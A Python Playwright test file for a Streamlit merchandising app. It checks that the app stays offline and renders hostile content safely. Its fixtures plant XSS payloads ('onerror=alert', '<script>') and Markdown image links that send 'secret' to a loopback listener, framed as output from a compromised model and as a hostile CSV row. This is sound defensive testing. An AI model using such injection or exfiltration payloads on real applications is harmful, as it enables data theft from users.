"""Real browser: Debian's chromium driven by Playwright against `streamlit run app.py` on a sample workspace."""

from __future__ import annotations

import http.server
import shutil
import threading
import time
from pathlib import Path

import pytest

from core.lab import open_lab
from core.nets.encoders import HashEncoder
from tests.fakes import png_bytes
from ui.server import start_app

CHROMIUM = "/usr/bin/chromium"
CHROMIUM_ARGS = ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-sync",
                 "--disable-background-networking", "--disable-component-update"]  # nothing that phones home
ROOT = Path(__file__).resolve().parents[2]
ARTIFACTS = ROOT / "tests" / "artifacts"
PAGES = [("Catalog", "Catalog"), ("Search", "Search"), ("Prompt Lab", "Prompt Lab"),
         ("Description QA", "Description QA"), ("Semantic Map", "Semantic map"),
         ("Shopper Simulator", "Shopper simulator"), ("Cold-start Preview", "Cold-start preview"),
         ("Evaluation", "Evaluation")]

pytestmark = pytest.mark.skipif(not Path(CHROMIUM).exists(),
                                reason="Debian's chromium is not installed (make test installs it when run as root)")


class LeakListener:
    """Counts any request to a loopback port that model output tries to make the browser fetch."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        hits = self.hits

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                hits.append(self.path)
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args: object) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


def plant_hostile_description(workspace: Path, port: int) -> str:
    """Replace the first QA row's model text with hostile markup, as a compromised model might return."""
    from core.services import qa

    lab = open_lab(workspace, encoder=HashEncoder())
    first = qa.qa_table(lab).iloc[0]
    stored = lab.store.descriptions()
    row = stored[stored["key"] == first["key"]].iloc[0].to_dict()
    text = (f"<img src=x onerror=alert(1)> <script>alert('xss')</script> "
            f"![x](http://127.0.0.1:{port}/leak?d=secret) plain words")
    lab.store.upsert_descriptions([lab.store.row_to_description(row).model_copy(update={"text": text})])
    return text


def plant_hostile_item(workspace: Path, port: int) -> None:
    """A catalogue row whose title and category are Markdown images, links, LaTeX and colour directives pointing at
    the listener, as a hostile CSV would bring them in; sorted first, so every grid and table shows it."""
    from core.catalog.ingest import ingest

    lab = open_lab(workspace, encoder=HashEncoder())
    folder = workspace.parent / "hostile-upload"
    folder.mkdir()
    (folder / "aaa.png").write_bytes(png_bytes("red"))
    title = f"![t](http://127.0.0.1:{port}/title) [click](http://127.0.0.1:{port}/link) $x^2$ :red[loud]"
    category = f"![c](http://127.0.0.1:{port}/category)"
    csv = f'sku,title,category,image\nAAA-HOSTILE,"{title}","{category}",aaa.png\n'.encode()
    assert ingest(lab.store, lab.images, [folder], csv).accepted == 1


@pytest.fixture(scope="module")
def served(sample_workspace, tmp_path_factory):
    """`streamlit run app.py` on a copy of the sample workspace, on a free loopback port."""
    ws = tmp_path_factory.mktemp("browser") / "ws"
    shutil.copytree(sample_workspace, ws)
    listener = LeakListener()
    hostile = plant_hostile_description(ws, listener.port)
    plant_hostile_item(ws, listener.port)
    proc, url = start_app(ws)
    yield {"url": url, "listener": listener, "hostile": hostile, "workspace": ws}
    proc.terminate()
    proc.wait(timeout=20)
    listener.server.shutdown()


@pytest.fixture(scope="module")
def page(served):
    from playwright.sync_api import sync_playwright

    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    with sync_playwright() as pw:
        browser = launch(pw)
        pg = browser.new_page(viewport={"width": 1400, "height": 1000})
        dialogs: list[str] = []
        pg.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        pg.dialogs = dialogs
        requested: list[str] = []
        pg.context.on("request", lambda r: requested.append(r.url))
        pg.requested = requested
        pg.set_default_timeout(90_000)
        pg.goto(served["url"])
        pg.get_by_role("heading", name="Vitrine — merchandising lab").wait_for()
        yield pg
        browser.close()


def open_nav(page, link: str, heading: str) -> None:
    page.get_by_test_id("stSidebarNav").get_by_text(link, exact=True).click()
    page.get_by_role("heading", name=heading).first.wait_for()
    page.wait_for_load_state("networkidle")


def settled(page) -> None:
    """Wait until Streamlit has finished running the page script, so screenshots show the whole page
    (the status widget appears only after a while, so its absence proves nothing)."""
    page.locator("[data-test-script-state='notRunning']").first.wait_for(state="attached")


def assert_no_exception(page, name: str) -> None:
    settled(page)
    page.screenshot(path=str(ARTIFACTS / f"{name}.png"), full_page=True)
    assert page.get_by_test_id("stException").count() == 0, f"{name} shows an exception"


def test_home_shows_offline_notice(page):
    page.get_by_text("No LVLM key found").wait_for()
    page.get_by_test_id("stVegaLiteChart").locator("canvas, svg").first.wait_for()  # the categories chart drew
    assert_no_exception(page, "home")


@pytest.mark.parametrize("link, heading", PAGES)
def test_every_page_renders(page, link, heading):
    open_nav(page, link, heading)
    if link == "Semantic Map":  # the plot itself is drawn, with a marker per item
        page.locator("[data-testid='stPlotlyChart'] .scatterlayer .point").first.wait_for()
    assert_no_exception(page, link.lower().replace(" ", "_"))


def test_upload_an_image_on_catalog(page, served, tmp_path):
    image = tmp_path / "BROWSER-1.png"
    image.write_bytes(png_bytes("green", size=(96, 96)))
    open_nav(page, "Catalog", "Catalog")
    page.get_by_text("Add images", exact=True).click()
    page.locator("input[type=file]").first.set_input_files(str(image))
    page.get_by_role("button", name="Ingest").click()
    page.get_by_text("Ingested: 1 accepted").first.wait_for()
    accepted = page.get_by_test_id("stMetric").filter(has_text="Accepted")
    assert accepted.get_by_test_id("stMetricValue").inner_text() == "1"
    assert_no_exception(page, "catalog_uploaded")
    assert "BROWSER-1" in set(open_lab(served["workspace"], encoder=HashEncoder()).store.items()["sku"])


def recommendation_scores(page) -> list[float]:
    """Scores from captions shaped 'SKU · 0.812' under the recommendation thumbnails."""
    captions = page.get_by_test_id("stImageCaption").all_inner_texts()
    return [float(c.split("·")[-1]) for c in captions if c.count("·") == 1 and "." in c.split("·")[-1]]


def test_shopper_simulation_shows_recommendations(page):
    open_nav(page, "Shopper Simulator", "Shopper simulator")
    page.get_by_text("Sample shopper", exact=True).click()
    page.get_by_role("heading", name="Recommendations").wait_for()
    deadline = time.time() + 60
    while len(scores := recommendation_scores(page)) < 10 and time.time() < deadline:
        time.sleep(0.5)  # thumbnails stream in one by one
    assert len(scores) == 10
    assert scores == sorted(scores, reverse=True)
    history = page.get_by_test_id("stExpander").filter(has_text="History:")
    assert history.get_by_test_id("stImage").count() == 0  # closed: its thumbnails are not drawn
    history.get_by_text("History:").click()
    history.get_by_test_id("stImage").first.wait_for()  # opening it reruns the shopper part and draws them
    assert_no_exception(page, "shopper_simulated")


def test_hostile_model_output_is_shown_literally_and_fetches_nothing(page, served):
    open_nav(page, "Description QA", "Description QA")
    page.get_by_test_id("stText").filter(has_text="plain words").first.wait_for()
    shown = page.get_by_test_id("stText").all_inner_texts()
    assert any(served["hostile"] in t for t in shown)
    time.sleep(1.0)
    assert page.dialogs == []
    assert served["listener"].hits == []
    assert page.locator("img[src='x']").count() == 0
    assert_no_exception(page, "qa_hostile")


def test_deep_link_on_a_fresh_server_uses_the_app_navigation(page, tmp_path):
    """A bookmarked page URL as a new server's first request still goes through app.py's st.navigation,
    not Streamlit's file-based pages/ routing (which would list 'app', 'cold start', ...)."""
    proc, url = start_app(tmp_path / "ws")
    try:
        fresh = page.context.browser.new_page(viewport={"width": 1400, "height": 1000})
        fresh.goto(f"{url}/cold_start")
        nav = fresh.get_by_test_id("stSidebarNav")
        nav.get_by_text("Cold-start Preview", exact=True).wait_for()
        fresh.get_by_role("heading", name="Cold-start preview").first.wait_for()
        settled(fresh)
        assert nav.get_by_text("app", exact=True).count() == 0
        fresh.close()
    finally:
        proc.terminate()
        proc.wait(timeout=20)


def launch(pw):
    """Debian's headless Chromium as every browser test runs it (no sync, updates or background fetches)."""
    return pw.chromium.launch(executable_path=CHROMIUM, headless=True, args=CHROMIUM_ARGS)


def outside_urls(urls: list[str]) -> list[str]:
    """URLs that would leave this machine: anything but loopback HTTP(S) and in-page data/blob/about URLs."""
    from urllib.parse import urlsplit

    return [u for u in urls if urlsplit(u).scheme not in ("data", "blob", "about")
            and urlsplit(u).hostname not in ("127.0.0.1", "localhost", "::1")]


def test_the_app_makes_no_request_beyond_loopback(page, served):
    """Offline means offline: after every page above has run, nothing (favicon, fonts, telemetry) left 127.0.0.1."""
    open_nav(page, "Catalog", "Catalog")
    settled(page)
    icons = page.locator("link[rel*='icon']").evaluate_all("links => links.map(l => l.href)")
    assert icons, "the page declares a favicon"
    assert outside_urls(icons) == []
    assert page.requested, "the browser's requests were recorded"
    assert outside_urls(page.requested) == []


def test_no_planted_link_was_fetched_on_any_page(page, served):
    """After every page above rendered the hostile catalogue row and description, the listener saw nothing."""
    open_nav(page, "Catalog", "Catalog")
    page.get_by_text("AAA-HOSTILE", exact=False).first.wait_for()
    settled(page)
    time.sleep(1.0)
    assert served["listener"].hits == []
    assert page.locator(f"img[src*='127.0.0.1:{served['listener'].port}']").count() == 0
